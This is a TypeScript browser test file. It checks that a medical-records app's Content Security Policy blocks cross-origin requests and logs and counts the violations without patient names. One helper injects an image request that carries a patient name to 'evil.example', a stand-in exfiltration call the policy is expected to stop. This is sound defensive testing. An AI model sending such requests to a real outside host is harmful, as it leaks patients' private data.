/** What the policy of a page stops, its browser tells the page's own origin: at the center over https and in clear, and at a station. */
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { pino } from 'pino';
import { type Browser, chromium, type Locator, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startCenter } from '../../server/center.ts';
import { certificate } from '../../server/kernel/http/testing/certificate.ts';
import { emptyDatabase } from '../../server/testing/postgres.ts';
import { openDeskHost } from '../../server-bridge/host/testing/desk-host.ts';
import { buildCenterPage, buildRenderer } from '../../tools/build/renderer.ts';
import { findChromium } from '../../tools/test/chromium.ts';

const folder = mkdtempSync(join(tmpdir(), 'qd-e2e-policy-'));
const pages = join(folder, 'pages');
let browser: Browser;
beforeAll(async () => {
  mkdirSync(pages);
  writeFileSync(
    join(pages, 'center.html'),
    '<!doctype html><title>Center</title><script>window.ran = "Rosa Inline";</script>',
  );
  // One without windows sends no reports of the Reporting API.
  browser = await chromium.launch({
    executablePath: findChromium() ?? '',
    // Reports of the Reporting API wait a minute for others, otherwise.
    args: ['--no-sandbox', '--disable-gpu', '--ignore-certificate-errors', '--short-reporting-delay'],
  });
});
afterAll(async () => {
  await browser?.close();
  rmSync(folder, { recursive: true, force: true });
});

/** Opens a page, as anybody does, until it shows something of its own. What its policy stopped of it meanwhile. */
async function stoppedOf(address: string, shows: (page: Page) => Locator): Promise<readonly string[]> {
  const page = await browser.newPage();
  const stopped: string[] = [];
  await page.exposeFunction('stoppedHere', (what: string) => void stopped.push(what));
  await page.addInitScript(`document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) =>
    window.stoppedHere(violatedDirective + ' ' + blockedURI))`);
  await page.goto(address);
  await shows(page).waitFor();
  await page.close();
  return stopped;
}

/** Opens a page and has it ask another site for a picture, with a patient's name in the question. */
async function provoke(address: string): Promise<boolean> {
  const page = await browser.newPage();
  await page.goto(address);
  await page.evaluate(() => {
    const image = document.createElement('img');
    image.src = 'https://evil.example/rosa-path?patient=Rosa';
    document.body.append(image);
  });
  return page.evaluate(() => 'ran' in window);
}

describe('what the policy of a page stopped', () => {
  it.each(['https', 'http'])(
    'arrives at the center over %s, is counted and logged without what it was about (ASVS 3.4.7)',
    async (scheme) => {
      const tls = { cert: join(folder, 'cert.pem'), key: join(folder, 'key.pem') };
      await certificate('center', tls);
      const database = await emptyDatabase();
      const lines: string[] = [];
      const dataDir = join(folder, scheme);
      const center = await startCenter({
        ...{ dataDir, pages, port: 0, host: '127.0.0.1', databaseUrl: database.migratorUrl },
        log: pino({ level: 'warn' }, { write: (line: string) => lines.push(line) }),
        ...(scheme === 'https' ? { tls } : {}),
      });
      try {
        expect(await provoke(`${center.url}/people/rosa-lane?q=Rosa`)).toBe(false);
        const held = () => lines.filter((line) => line.includes('a page was held to its policy'));
        await expect.poll(() => held().join(''), { timeout: 60_000 }).toContain('"directive":"img-src"');
        await expect.poll(() => held().join('')).toContain('"directive":"script-src-elem"');
        const images = held().filter((line) => line.includes('img-src'));
        expect(JSON.parse(images[0] ?? '')).toMatchObject({
          violation: { directive: 'img-src', blocked: 'https://evil.example', page: '/people' },
        });
        expect(lines.join('').toLowerCase()).not.toContain('rosa');
        const context = await browser.newContext({ ignoreHTTPSErrors: true });
        const token = readFileSync(join(dataDir, 'metrics.token'), 'utf8').trim();
        const figures = await context.request.get(`${center.url}/metrics`, {
          headers: { authorization: `Bearer ${token}` },
        });
        expect(await figures.text()).toMatch(/qd_csp_violations_total 2\b/);
      } finally {
        await center.close();
        await database.drop();
      }
    },
  );

  it('is nothing of what the center’s page and the console do by themselves: each opening of one would set an alert off', async () => {
    await Promise.all([buildCenterPage(), buildRenderer()]);
    const database = await emptyDatabase();
    const center = await startCenter({
      ...{ dataDir: join(folder, 'own'), port: 0, host: '127.0.0.1', databaseUrl: database.migratorUrl },
      log: pino({ level: 'silent' }),
    });
    const at = await openDeskHost(fileURLToPath(new URL('../../dist/renderer', import.meta.url)));
    try {
      expect(await stoppedOf(center.url, (page) => page.getByLabel('Password'))).toEqual([]);
      const console = `${at.host.url}#${at.tokens.issue('console')}`;
      expect(await stoppedOf(console, (page) => page.getByRole('status', { name: 'Reach' }))).toEqual([]);
      expect(at.faults).toEqual([]);
    } finally {
      await at.close();
      await center.close();
      await database.drop();
    }
  });

  it('arrives at the station that served the console, which says it without what it was about (ASVS 3.4.7)', async () => {
    const at = await openDeskHost();
    try {
      await provoke(`${at.host.url}?q=Rosa`);
      await expect
        .poll(() => at.faults)
        .toEqual(['the console was held to its policy, img-src, https://evil.example: undefined']);
    } finally {
      await at.close();
    }
  });
});
